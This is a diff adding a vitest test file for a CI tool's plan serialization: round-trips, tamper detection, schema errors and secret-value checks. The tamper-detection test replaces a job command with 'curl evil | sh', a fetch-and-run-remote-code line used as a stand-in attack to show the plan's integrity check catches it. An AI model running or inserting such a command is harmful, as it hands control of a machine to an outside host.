@@ -1,0 +1,121 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { buildPlan } from '../../src/plan/build.js';
+import { parsePlan, readPlan, serializePlan, writePlan } from '../../src/plan/io.js';
+import { context, jobs } from '../support/jobs.js';
+
+const folder = mkdtempSync(join(tmpdir(), 'vmplan-plan-io-'));
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+const config = jobs(`version: 1
+images:
+  debian: { arch: arm64, kernel: k/Image, initrd: k/initrd }
+defaults: { image: debian }
+jobs:
+  build: { run: make }
+  unit: { run: make test, needs: build, secrets: [TOKEN], env: { MODE: fast } }
+`);
+const plan = buildPlan(config, context());
+
+function planErrors(text: string): string[] {
+  try {
+    parsePlan(text, 'plan.json');
+  } catch (error) {
+    return (error as Error).message.split('\n');
+  }
+  throw new Error('expected the plan to be rejected');
+}
+
+describe('plan read/write', () => {
+  it('round-trips: what is written reads back equal, and rewrites to the same bytes', () => {
+    const path = join(folder, 'plan.json');
+    const text = writePlan(path, plan);
+    const read = readPlan(path);
+    expect(read).toEqual(plan);
+    expect(serializePlan(read)).toBe(text);
+    expect(readFileSync(path, 'utf8')).toBe(text);
+  });
+
+  it('detects a plan changed after it was written', () => {
+    const tampered = serializePlan(plan).replace('"make test"', '"curl evil | sh"');
+    expect(planErrors(tampered)).toEqual([
+      `plan.json:3:13 planId: planId does not match the plan's content (expected ${
+        buildPlan(
+          jobs(`version: 1
+images:
+  debian: { arch: arm64, kernel: k/Image, initrd: k/initrd }
+defaults: { image: debian }
+jobs:
+  build: { run: make }
+  unit: { run: curl evil | sh, needs: build, secrets: [TOKEN], env: { MODE: fast } }
+`),
+          context(),
+        ).planId
+      }): the file was changed after it was written`,
+    ]);
+  });
+
+  it('rejects text that is not JSON', () => {
+    expect(planErrors('version: 1\n')[0]).toMatch(/^plan\.json: not a plan: invalid JSON \(/);
+  });
+
+  it('rejects a jobs file given as a plan', () => {
+    expect(planErrors('{"version": 1, "jobs": {}}')).toEqual([
+      'plan.json:1:1 schemaVersion: not a plan this vmplan can read: schemaVersion undefined, expected 1',
+    ]);
+  });
+
+  it('tells the user to upgrade for a newer plan format', () => {
+    const newer = serializePlan(plan).replace('"schemaVersion": 1', '"schemaVersion": 2');
+    expect(planErrors(newer)).toEqual([
+      'plan.json:2:20 schemaVersion: not a plan this vmplan can read: schemaVersion 2, expected 1: it was written by a newer vmplan, upgrade to read it',
+    ]);
+  });
+
+  it('locates schema problems by line and column', () => {
+    const broken = serializePlan(plan).replaceAll('"timeoutMinutes": 60', '"timeoutMinutes": "soon"');
+    const errors = planErrors(broken);
+    expect(errors).toHaveLength(2);
+    for (const line of errors) expect(line).toMatch(/^plan\.json:\d+:\d+ nodes\[\d\]\.timeoutMinutes: /);
+  });
+
+  it('rejects structural inconsistencies (dependency on a missing node)', () => {
+    const data = JSON.parse(serializePlan(plan));
+    data.nodes[2].dependsOn = ['image:debian', 'job:ghost'];
+    data.nodes[2].needs = ['ghost'];
+    expect(planErrors(JSON.stringify(data, null, 2))).toEqual(
+      expect.arrayContaining([
+        'plan.json:1:1: node "job:unit" depends on "job:ghost", which is not in the plan',
+      ]),
+    );
+  });
+
+  it('reports an unreadable file clearly', () => {
+    expect(() => readPlan(join(folder, 'missing.json'))).toThrow(
+      /missing\.json: cannot read the plan: ENOENT/,
+    );
+  });
+
+  it('refuses to write a plan containing a secret value', () => {
+    const leaky = buildPlan(
+      jobs(
+        'version: 1\njobs:\n  j: { run: "deploy --token s3cr3t-value", executor: host, secrets: [TOKEN] }\n',
+      ),
+      context(),
+    );
+    const path = join(folder, 'leaky.json');
+    expect(() => writePlan(path, leaky, ['s3cr3t-value'])).toThrow(/would contain the value of a secret/);
+    expect(() => readFileSync(path)).toThrow(/ENOENT/);
+    expect(() => writePlan(path, leaky, ['unrelated-secret'])).not.toThrow();
+  });
+
+  it('never replaces the file with a plan that fails validation', () => {
+    const path = join(folder, 'atomic.json');
+    writePlan(path, plan);
+    const before = readFileSync(path, 'utf8');
+    expect(() => writePlan(path, { ...plan, planId: 'f'.repeat(64) })).toThrow(/planId does not match/);
+    expect(readFileSync(path, 'utf8')).toBe(before);
+  });
+});
